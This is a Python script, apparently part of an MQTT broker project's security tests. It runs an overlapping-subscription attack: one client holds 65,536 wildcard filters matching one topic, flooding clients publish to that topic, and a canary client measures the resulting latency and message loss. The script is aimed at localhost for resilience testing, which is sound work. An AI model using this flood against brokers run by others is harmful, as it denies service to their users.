#!/usr/bin/env python3
"""Overlapping-subscription attack (docs/security.md, "Attacks").

One client subscribes to all 2^LEVELS filters `alice/{a|+}/.../{a|+}`, each
matching the topic `alice/a/.../a`; PUBS other clients then flood that topic
with QoS 0 publishes for FLOOD_SECS seconds. A canary client publishes to
itself every 50 ms throughout and reports its worst round trip and how many
of its messages never came back.

    python3 scripts/attacks/overlap.py --port 1883 --pubs 2 --flood-secs 5 \
        --user alice:alicepw --canary-user bob:bobpw

Works against any MQTT 3.1.1 broker (run Mosquitto on another port to compare).
Needs paho-mqtt 2.x.
"""
import argparse
import itertools
import threading
import time

import paho.mqtt.client as mqtt


def client(cid, creds, port):
    c = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=cid, protocol=mqtt.MQTTv311)
    if creds:
        user, _, password = creds.partition(":")
        c.username_pw_set(user, password)
    c.connect("127.0.0.1", port)
    c.loop_start()
    return c


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--port", type=int, default=1883)
    ap.add_argument("--levels", type=int, default=16)
    ap.add_argument("--pubs", type=int, default=1, help="flooding connections")
    ap.add_argument("--flood-secs", type=float, default=5.0)
    ap.add_argument("--drain-secs", type=float, default=30.0,
                    help="how long the canary keeps probing after the flood")
    ap.add_argument("--user", help="attacker's USER:PASSWORD")
    ap.add_argument("--canary-user", help="canary's USER:PASSWORD")
    a = ap.parse_args()

    lock = threading.Lock()
    sent, rtts = {}, []

    def on_canary(c, u, m):
        now = time.monotonic()
        with lock:
            at = sent.pop(m.payload, None)
        if at is not None:
            rtts.append(now - at)

    canary = client("canary", a.canary_user, a.port)
    canary.on_message = on_canary
    canary.subscribe("canary/t", 0)

    filters = ["alice/" + "/".join(p) for p in itertools.product("a+", repeat=a.levels)]
    chunks = [filters[i:i + 500] for i in range(0, len(filters), 500)]
    subacks, granted = threading.Semaphore(0), [0]

    def on_suback(c, u, mid, reasons, p):
        granted[0] += sum(1 for r in reasons if not r.is_failure)
        subacks.release()

    holder = client("holder", a.user, a.port)
    holder.on_subscribe = on_suback
    started = time.monotonic()
    for chunk in chunks:
        holder.subscribe([(f, 0) for f in chunk])
    for _ in chunks:
        if not subacks.acquire(timeout=600):
            raise SystemExit("no SUBACK within 600 s")
    print(f"holder: {granted[0]} of {len(filters)} filters granted "
          f"in {time.monotonic() - started:.1f} s")

    stop = threading.Event()

    def probe():
        for i in itertools.count():
            if stop.is_set():
                return
            payload = f"c{i}".encode()
            with lock:
                sent[payload] = time.monotonic()
            canary.publish("canary/t", payload, 0)
            time.sleep(0.05)

    prober = threading.Thread(target=probe)
    prober.start()
    time.sleep(0.5)
    topic = "alice/" + "/".join("a" * a.levels)
    flooders = [client(f"flooder-{k}", a.user, a.port) for k in range(a.pubs)]
    counts = [0] * a.pubs
    flood_start = time.monotonic()

    def flood(k):
        while time.monotonic() - flood_start < a.flood_secs:
            flooders[k].publish(topic, b"x", 0)
            counts[k] += 1
            if counts[k] % 1000 == 0:
                time.sleep(0.001)

    threads = [threading.Thread(target=flood, args=(k,)) for k in range(a.pubs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"flood: {sum(counts)} publishes from {a.pubs} connections in {a.flood_secs:.0f} s")
    time.sleep(a.drain_secs)
    stop.set()
    prober.join()
    time.sleep(1)
    with lock:
        lost = len(sent)
    rtts.sort()
    worst = f"{rtts[-1] * 1000:.0f} ms" if rtts else "-"
    median = f"{rtts[len(rtts) // 2] * 1000:.1f} ms" if rtts else "-"
    print(f"canary: {len(rtts)} round trips, worst {worst}, median {median}, "
          f"{lost} never came back")


if __name__ == "__main__":
    main()
